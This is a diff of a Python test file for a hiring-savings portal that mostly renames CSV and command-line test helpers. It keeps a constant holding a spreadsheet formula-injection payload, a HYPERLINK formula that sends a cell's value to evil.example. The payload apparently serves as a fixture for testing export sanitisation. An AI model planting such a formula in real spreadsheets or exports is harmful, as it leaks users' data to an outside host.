@@ -12,8 +12,8 @@ import pytest
 from portal.errors import ValidationError
 from services import hires, programme, savings, savings_export
 from services.savings import Assumptions, build_report
-from tests.db.test_migrations_and_faults import _portal
-from tests.db.test_savings_data import CSV_HEADER, csv_file, people  # noqa: F401 (fixture)
+from tests.db.rows import HIRES_CSV_HEADER, hires_csv
+from tests.support import portal_command
 
 TODAY = date(2026, 3, 1)
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
@@ -50,7 +50,7 @@ def test_payback_waits_for_the_programme_to_spend_something():
     assert report.payback_month == date(2026, 3, 1)
 
 
-def test_changing_the_reporting_currency_removes_the_old_rates(people):  # noqa: F811
+def test_changing_the_reporting_currency_removes_the_old_rates(people):
     programme.set_rate(people.admin, "EUR", 1.08)
     removed = programme.save_assumptions(people.admin, currency="EUR", fee_rate=0.2,
                                          job_board_cost_per_hire=4300)
@@ -66,8 +66,8 @@ def test_changing_the_reporting_currency_removes_the_old_rates(people):  # noqa:
                                       job_board_cost_per_hire=4300) == []
 
 
-def test_a_reimport_after_a_currency_change_adds_nothing(people):  # noqa: F811
-    data = csv_file("2026-01-15,Backend Engineer,Engineering,referral,90000,,2000,,,,,")
+def test_a_reimport_after_a_currency_change_adds_nothing(people):
+    data = hires_csv("2026-01-15,Backend Engineer,Engineering,referral,90000,,2000,,,,,")
     assert hires.import_hires(people.recruiter, data, "a.csv", TODAY).added == 1
     programme.save_assumptions(people.admin, currency="EUR", fee_rate=0.2,
                                job_board_cost_per_hire=4300)
@@ -79,24 +79,24 @@ def test_a_reimport_after_a_currency_change_adds_nothing(people):  # noqa: F811
     ("20260115,Engineer,Engineering,direct,90000,,,,,,,", "is not a date in the form YYYY-MM-DD"),
     ("0001-01-15,Engineer,Engineering,direct,90000,,,,,,,", "before 1900"),
 ])
-def test_odd_rows_are_reported_and_the_good_ones_kept(people, row, reason):  # noqa: F811
-    data = csv_file("2026-01-15,Designer,Design,direct,60000,,,,,,,", row)
+def test_odd_rows_are_reported_and_the_good_ones_kept(people, row, reason):
+    data = hires_csv("2026-01-15,Designer,Design,direct,60000,,,,,,,", row)
     result = hires.import_hires(people.recruiter, data, "odd.csv", TODAY)
     assert result.added == 1
     assert [p.row for p in result.problems] == [3] and reason in result.problems[0].reason
 
 
-def test_files_that_cannot_be_read_are_refused_whole(people):  # noqa: F811
+def test_files_that_cannot_be_read_are_refused_whole(people):
     with pytest.raises(ValidationError, match="names a column twice: source"):
-        hires.parse_hires_csv(csv_file("2026-01-15,a,b,direct,1,,,,,,,,direct",
-                                       header=CSV_HEADER + ",source"), "USD", TODAY)
-    huge = csv_file("2026-01-15," + "x" * 200_000 + ",Design,direct,1,,,,,,,")
+        hires.parse_hires_csv(hires_csv("2026-01-15,a,b,direct,1,,,,,,,,direct",
+                                       header=HIRES_CSV_HEADER + ",source"), "USD", TODAY)
+    huge = hires_csv("2026-01-15," + "x" * 200_000 + ",Design,direct,1,,,,,,,")
     with pytest.raises(ValidationError, match="Row 2 cannot be read as CSV"):
         hires.parse_hires_csv(huge, "USD", TODAY)
 
 
 def test_cli_refuses_dates_it_cannot_report_on():
-    result = _portal("report", "savings", "--from", "2026-01-01", "--to", "9999-12-31",
+    result = portal_command("report", "savings", "--from", "2026-01-01", "--to", "9999-12-31",
                      "--format", "csv")
     assert result.returncode == 2 and "between 1900 and 2100" in result.stderr
     assert "Traceback" not in result.stderr
